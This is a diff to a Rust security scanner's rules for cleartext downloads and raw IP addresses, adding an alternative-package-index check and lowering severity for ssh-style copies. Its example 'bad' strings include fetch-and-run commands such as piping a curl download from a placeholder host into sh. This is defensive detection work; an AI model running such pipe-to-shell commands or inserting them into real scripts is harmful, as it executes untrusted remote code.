@@ -26,7 +26,7 @@ pub(super) const RULES: &[Rule] = &[
                       Use an https address, and check the content before it is used.",
         remediation: "Use https, and check a signature or checksum before use.",
         good: &["curl -s http://localhost:8080/health", "curl -s http://e.example/x.json", "curl http://127.1/x | sh"],
-        bad: &["curl -s http://e.example/x.sh | sh", "wget http://e.example/x -O f && sh f"],
+        bad: &["curl -s http://e.example/x.sh | sh", "wget http://e.example/x -O f && sh f", "pip install -i http://e.example/simple x"],
         check: plain_to_sink,
     },
     Rule {
@@ -157,7 +157,9 @@ fn plain_to_sink(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     let clear = |a: &Address| !a.schemeless && a.is_cleartext();
     to_sink(facts, rule, out, clear);
     // An installation from an address is a sink of its own.
-    for e in facts.with(&[Verb::Install]) {
+    // So is another index than the usual one: all packages of the installation may come from it.
+    let index = facts.with(&[Verb::Connect]).filter(|e| e.props.has(Props::OTHER_INDEX));
+    for e in facts.with(&[Verb::Install]).chain(index) {
         let Some(a) = facts.address(e).filter(|a| clear(a) && !a.is_near()) else { continue };
         out.add(rule.about(facts, e).title(format!("{}: {} → {}", rule.title, a.raw, facts.name(e))).evidence_as(
             "url",
@@ -234,7 +236,13 @@ fn raw_ip(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
         }
         let plain = ip.to_string();
         let disguised = matches!(ip, IpAddr::V4(_)) && plain != a.host_text.trim_end_matches('.');
-        let severity = if facts.run_by(e).is_some() || disguised { Severity::High } else { rule.severity };
+        // Copies to and from a machine that one logs in to go by its address all the time: its key says whose it is.
+        let login = e.verb != Verb::Fetch && matches!(a.scheme.as_str(), "" | "ssh" | "scp" | "sftp" | "rsync");
+        let severity = match facts.run_by(e).is_some() || disguised {
+            true => Severity::High,
+            false if login => Severity::Info,
+            false => rule.severity,
+        };
         let mut d = rule
             .about(facts, e)
             .severity(severity)
